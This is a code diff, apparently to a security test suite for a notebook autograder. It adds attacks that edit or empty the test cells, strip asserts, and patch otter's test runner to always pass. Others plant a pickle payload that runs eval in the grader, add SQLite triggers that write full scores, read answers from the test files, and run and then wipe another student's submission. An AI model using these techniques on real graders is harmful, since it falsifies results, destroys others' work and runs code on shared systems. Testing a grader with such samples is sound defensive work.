@@ -26,6 +26,7 @@ class Attack:
     tries: str  # in words, for the table in the documentation
     cells: tuple[str, ...]
     seconds: float = 30.0  # the time limit of the submission, where the attack uses it up
+    edits_tests: bool = False  # the cells with the tests are rewritten before the notebook is handed in
 
 
 def answer(body: str, before: str = "") -> str:
@@ -152,6 +153,34 @@ ATTACKS = [
     Attack("network", "asks another machine for the answer", (
         "import socket\nfor host in ('127.0.0.1', '1.1.1.1', 'localhost', '::1'):\n    try:\n        s = socket.create_connection((host, 80), 1)\n        s.close()\n        raise SystemExit\n"
         "    except OSError: pass", WRONG)),
+    # --- against graders that run their tests beside the answer
+    Attack("tests edited", "rewrites the cells with the tests before handing in", (WRONG,), edits_tests=True),
+    Attack("asserts removed", "takes the asserts out of all later cells", (
+        "import ast\nclass Remove(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
+        "get_ipython().ast_transformers.append(Remove())", WRONG)),
+    Attack("cells emptied", "replaces all later cells by nothing", ("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])", WRONG)),
+    Attack("test runner patched", "replaces the call of a test case by one that always passes", (
+        "try:\n    from otter.test_files import exception_test, ok_test\n    exception_test.test_case.call_func = lambda self, env: None\n"
+        "    ok_test.run_doctest = lambda *a, **k: (True, '')\nexcept Exception: pass", WRONG)),
+    Attack("results as code", "hands back results that run code in the grader and hold full points", (
+        "import pickle\nreal = pickle.dump, pickle.dumps\nclass Evil:\n    def __init__(self, results): self.text = real[1](results)\n"
+        "    def __reduce__(self):\n        return eval, (\"(open('/tmp/evil', 'w').close(), __import__('pickle').loads(%r))[1]\" % self.text,)\n"
+        "def dump(results, file, *more):\n    for name in results.results: results.update_score(name, results.results[name].possible)\n"
+        "    real[0](Evil(results), file)\npickle.dump = dump", WRONG)),
+    Attack("gradebook trigger", "makes the database of points write full points by itself", (
+        "import glob, sqlite3\nfor path in glob.glob('gradebook.db') + glob.glob('../../../gradebook.db'):\n    base = sqlite3.connect(path)\n"
+        "    for when in ('INSERT', 'UPDATE'):\n        base.execute(f'CREATE TRIGGER full_{when} AFTER {when} ON grade BEGIN UPDATE grade SET auto_score = 1 WHERE id = NEW.id; END')\n"
+        "    base.commit()\n    base.close()", WRONG)),
+    Attack("test file read", "looks the answers up in the tests that lie in its folder", (
+        "import ast, glob, re, torch\nfound = []\nfor path in glob.glob('*.ipynb') + glob.glob('tests/*.py'):\n"
+        "    found += [torch.tensor(ast.literal_eval(text)) for text in re.findall(r'torch[.]tensor[(]([[][^()]*[]])[)]', open(path).read())]",
+        answer("for one, following in zip(found, found[1:]):\n    if torch.equal(one, logits): return following\nreturn logits"))),
+    Attack("another student's answer", "runs what another student handed in, and damages that file", (
+        "import glob, json, os\nothers = []\nfor path in glob.glob(os.path.expanduser('~/**/submitted/*/**/*.ipynb'), recursive=True):\n"
+        "    try:\n        for cell in json.load(open(path))['cells']:\n            text = ''.join(cell['source'])\n"
+        "            if 'def soften' in text and 'softmax' in text: others.append((path, text))\n    except Exception: pass", answer(
+            "for path, text in others:\n    names = {}\n    exec('import torch' + chr(10) + text, names)\n    open(path, 'w').close()\n    return names['soften'](logits, temperature)\n"
+            "return logits").replace("others:", "others[:1]:"))),
     # --- getting out
     Attack("writing outside", "writes into folders of the machine", (
         "import os\nfor place in ('/', '/usr', '/usr/lib', '/etc', '/root', '/home', '/work', '/proc/sys/kernel', '/sys', '/var', '/tmp/..', '/proc/1/root', '/proc/1/cwd'):\n"
